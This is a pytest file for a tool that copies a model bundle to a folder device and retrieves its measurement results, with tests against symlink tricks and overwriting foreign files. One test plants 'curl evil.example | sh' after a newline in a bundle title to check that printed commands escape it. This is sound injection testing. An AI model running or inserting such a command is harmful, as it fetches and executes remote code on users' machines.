"""A stick: the bundle goes out, its results come back. The board is another folder of this machine."""

from __future__ import annotations

import shlex
import shutil
from pathlib import Path

import pytest
from bundles import change_manifest, write_bundle

from edgedistill.devices.device import Device, find_device
from edgedistill.devices.folder import Folder
from edgedistill.errors import InputError
from edgedistill.targets.manifest import Manifest, read_manifest


@pytest.fixture
def bundle(tmp_path: Path) -> Manifest:
    return read_manifest(write_bundle(tmp_path / "parts bundle"))


@pytest.fixture
def stick(tmp_path: Path) -> Folder:
    (tmp_path / "my stick").mkdir()
    return Folder.at(f"folder:{tmp_path / 'my stick'}")


def measured(device: Device, bundle: Manifest) -> list[Path]:
    with device.measure(bundle) as files:
        return files


def test_the_bundle_goes_out_its_results_come_back_and_the_verdict_goes_with_it(
    bundle: Manifest, stick: Folder
) -> None:
    assert measured(stick, bundle) == []
    copy = stick.place / "parts bundle"
    assert read_manifest(copy).sha256 == bundle.sha256
    (copy / "results").mkdir()
    (copy / "results/fp32-onnxruntime-cpu.json").write_text("measured there")
    with stick.measure(bundle) as found:
        assert [path.relative_to(copy).as_posix() for path in found] == ["results/fp32-onnxruntime-cpu.json"]
        assert not (bundle.path / "results/fp32-onnxruntime-cpu.json").exists()  # judged first
        (bundle.path / "verdict.json").write_text("decided")
    assert (bundle.path / "results/fp32-onnxruntime-cpu.json").read_text() == "measured there"
    assert (copy / "verdict.json").read_text() == "decided"


def test_results_of_an_older_build_do_not_come_back(bundle: Manifest, stick: Folder) -> None:
    measured(stick, bundle)
    (stick.place / "parts bundle/results").mkdir()
    (stick.place / "parts bundle/results/a.json").write_text("of the older one")
    change_manifest(bundle.path, build_id="1" * 64)
    assert measured(stick, read_manifest(bundle.path)) == []
    assert not (stick.place / "parts bundle/results").exists()


def test_the_lines_say_what_to_type_there_and_here(bundle: Manifest, stick: Folder) -> None:
    lines = stick.next_steps(bundle, unstable=False)
    assert str(stick.place) in lines[0]
    assert lines[1] == "python3 run.py verify"
    assert shlex.split(lines[-1]) == ["edgedistill", "verify", str(bundle.path), "--device", stick.name]
    assert not any(str(stick.place) in line for line in stick.anonymous().next_steps(bundle, unstable=False))
    assert stick.named
    assert not Folder().named


def test_a_stick_that_is_not_there_is_not_made(bundle: Manifest, tmp_path: Path) -> None:
    with pytest.raises(InputError) as raised:
        measured(find_device(f"folder:{tmp_path / 'not there'}"), bundle)
    assert "there is no folder" in raised.value.wrong
    assert not (tmp_path / "not there").exists()


def test_what_is_not_ours_is_not_replaced(bundle: Manifest, stick: Folder) -> None:
    (stick.place / "parts bundle").mkdir()
    (stick.place / "parts bundle/letter").write_text("to a friend")
    for call in (measured, looked_at):
        with pytest.raises(InputError, match="holds something that is not a bundle"):
            call(stick, bundle)
    assert (stick.place / "parts bundle/letter").is_file()


def test_the_bundles_own_place_is_no_place_to_copy_it_to(bundle: Manifest) -> None:
    with pytest.raises(InputError, match="is the bundle itself"):
        measured(Folder.at(f"folder:{bundle.path.parent}"), bundle)


def looked_at(device: Device, bundle: Manifest) -> None:
    device.check(bundle.profile, bundle.path)


def test_before_a_build_a_stick_is_looked_at_and_left_as_it_is(bundle: Manifest, stick: Folder, tmp_path: Path) -> None:
    looked_at(stick, bundle)
    looked_at(Folder(), bundle)
    assert list(stick.place.iterdir()) == []
    with pytest.raises(InputError, match="there is no folder"):
        looked_at(Folder.at(f"folder:{tmp_path / 'not there'}"), bundle)
    with pytest.raises(InputError, match="is the bundle itself"):
        looked_at(Folder.at(f"folder:{bundle.path.parent}"), bundle)
    with pytest.raises(InputError, match="cannot copy the bundle to /sys/parts bundle: "):
        looked_at(Folder.at("folder:/sys"), bundle)


def test_a_file_in_the_way_is_two_lines(bundle: Manifest, stick: Folder) -> None:
    (stick.place / ".parts bundle.partial").write_text("")
    with pytest.raises(InputError, match="cannot copy the bundle to"):
        measured(stick, bundle)
    shutil.rmtree(stick.place)


def test_a_result_that_is_refused_is_not_kept(bundle: Manifest, stick: Folder) -> None:
    measured(stick, bundle)
    (stick.place / "parts bundle/results").mkdir()
    (stick.place / "parts bundle/results/a.json").write_text("of somebody")
    with pytest.raises(InputError, match="no result"), stick.measure(bundle):
        raise InputError("no result", "Measure.")
    assert not list(bundle.path.rglob("results/*"))


@pytest.mark.parametrize("link", ["results", "results/a.json"])
def test_a_link_on_the_stick_brings_in_no_file_of_this_machine(
    bundle: Manifest, stick: Folder, tmp_path: Path, link: str
) -> None:
    measured(stick, bundle)
    private = tmp_path / "private"
    private.mkdir()
    (private / "a.json").write_text("{}")
    place = stick.place / "parts bundle" / link
    place.parent.mkdir(exist_ok=True)
    place.symlink_to(private / "a.json" if link.endswith(".json") else private)
    with pytest.raises(InputError, match=f"{link} is a link"):
        measured(stick, bundle)
    assert not list(bundle.path.rglob("results/*"))


def test_a_title_adds_no_line_to_what_is_to_be_typed(bundle: Manifest, stick: Folder) -> None:
    bundle.profile["title"] = "a board\ncurl evil.example | sh"
    for device in (Folder(), stick, find_device("ssh://pi@board").anonymous()):
        lines = device.next_steps(bundle, unstable=False)
        assert any(line.startswith("# ") and r"a board\x0acurl" in line for line in lines)
        assert not any("\n" in line for line in lines)
